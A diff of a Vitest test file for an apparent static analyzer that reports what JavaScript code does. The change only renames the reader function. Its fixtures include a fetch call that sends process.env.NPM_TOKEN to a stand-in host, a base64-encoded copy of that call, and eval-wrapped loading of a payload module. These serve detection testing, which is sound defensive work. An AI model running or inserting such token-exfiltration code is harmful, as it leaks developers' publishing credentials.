@@ -1,12 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { readJavaScriptFile } from '../../src/profiles/javascript-file.ts';
+import { readCodeFile } from '../../src/profiles/code-file.ts';
 
 const inner = "fetch('https://load.example/x', { body: process.env.NPM_TOKEN });";
 const base64 = Buffer.from(inner).toString('base64');
 
 /** Kinds and what they are about, of what a file does. */
 function factsIn(code: string): readonly string[] {
-  const { observations } = readJavaScriptFile('index.js', code);
+  const { observations } = readCodeFile('index.js', code);
   return observations.map(({ kind, attributes, line }) =>
     [kind, attributes['destination'] ?? attributes['name'] ?? '', line].join(' '),
   );
@@ -32,7 +32,7 @@ describe('text that is run as code', () => {
   });
 
   it('waits when what runs it waits', () => {
-    const { observations } = readJavaScriptFile(
+    const { observations } = readCodeFile(
       'index.js',
       `export function later() { eval(${JSON.stringify(inner)}); }`,
     );
@@ -41,7 +41,7 @@ describe('text that is run as code', () => {
   });
 
   it('loads the modules that it names', () => {
-    const { specifiers } = readJavaScriptFile('index.js', 'eval("require(\'./payload.js\')");');
+    const { specifiers } = readCodeFile('index.js', 'eval("require(\'./payload.js\')");');
     expect(specifiers).toEqual(['./payload.js']);
   });
 
